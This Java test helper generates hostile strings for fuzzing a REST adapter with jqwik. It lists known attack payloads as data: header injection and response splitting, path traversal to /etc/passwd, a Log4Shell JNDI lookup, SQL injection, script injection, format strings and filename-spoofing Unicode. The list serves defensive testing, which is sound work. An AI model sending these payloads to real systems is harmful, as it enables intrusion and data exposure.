package dev.pixelwright.adapters.rest;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/** Text that nobody wants to read: of all of Unicode, of its worst parts, and of what attackers send. */
final class HostileText {

    private static final int LONG = 4096;

    private HostileText() {}

    static Arbitrary<String> any() {
        Arbitrary<String> unicode = Arbitraries.strings().all().ofMaxLength(40);
        Arbitrary<String> worst = Arbitraries.strings()
                .withCharRange('\0', '\u001f')
                .withChars("\"\\%;:,/&=?#<>'{}[]\u007f\u0085\u2028\u202e\u2066\ufeff\uffff\ud800\udc00\u0301a1 ")
                .ofMaxLength(20);
        Arbitrary<String> latin =
                Arbitraries.strings().withCharRange(' ', '\u00ff').ofMaxLength(30);
        Arbitrary<String> known = Arbitraries.of(
                "",
                " ",
                "\0",
                "\r\nX-Evil: 1",
                "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
                "%0d%0aX-Evil:%201",
                "%00",
                "%",
                "%zz",
                "%ff%fe",
                "%c0%ae%c0%ae/",
                "..\\..\\x",
                "../../etc/passwd",
                "${jndi:ldap://example.org/x}",
                "{}",
                "%s%n",
                "' OR 1=1 --",
                "<script>alert(1)</script>",
                "\u001b[2J\u001b]0;evil\u0007",
                "\u202egnp.exe",
                "\ud83d",
                "9223372036854775808",
                "-9223372036854775809",
                "99999999999999999999999999999999",
                "-1",
                "0",
                "1e999",
                "NaN",
                "bytes=0-",
                "bytes=-",
                "bytes=9-1",
                "bytes=0-0,2-3",
                "bytes=-99999999999999999999",
                "W/\"x\"",
                "\"",
                "*",
                "utf-8''%",
                "en;q=",
                "resize:1e9x-1",
                "resize:800x600/".repeat(30),
                "{\"a\":".repeat(200));
        Arbitrary<String> endless =
                Arbitraries.chars().all().map(c -> String.valueOf(c).repeat(LONG));
        return Arbitraries.frequencyOf(
                Tuple.of(3, unicode), Tuple.of(4, worst), Tuple.of(2, latin), Tuple.of(5, known), Tuple.of(1, endless));
    }

    /** As the value of a header: cut where a line would end, since what follows would be the sender's own header. */
    static String asHeader(String text) {
        return text.replaceAll("[\r\n]", "_");
    }

    /** In a path or a query, every byte of it escaped; half a surrogate pair becomes bytes that are no UTF-8. */
    static String asEscapes(String text) {
        StringBuilder escaped = new StringBuilder();
        for (byte b : bytes(text)) {
            escaped.append(String.format("%%%02x", b & 0xff));
        }
        return escaped.toString();
    }

    /** As JSON, with everything but plain letters escaped. */
    static String asJson(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            json.append(
                    Character.isLetterOrDigit(c) && c < 128 ? String.valueOf(c) : String.format("\\u%04x", (int) c));
        }
        return json.append('"').toString();
    }

    /** UTF-8, and half a surrogate pair as if it were a character. */
    static byte[] bytes(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        text.codePoints().forEach(point -> {
            if (point >= 0xd800 && point <= 0xdfff) {
                bytes.writeBytes(
                        new byte[] {(byte) 0xed, (byte) (0x80 | (point >> 6 & 0x3f)), (byte) (0x80 | (point & 0x3f))});
            } else {
                bytes.writeBytes(new String(Character.toChars(point)).getBytes(StandardCharsets.UTF_8));
            }
        });
        return bytes.toByteArray();
    }
}
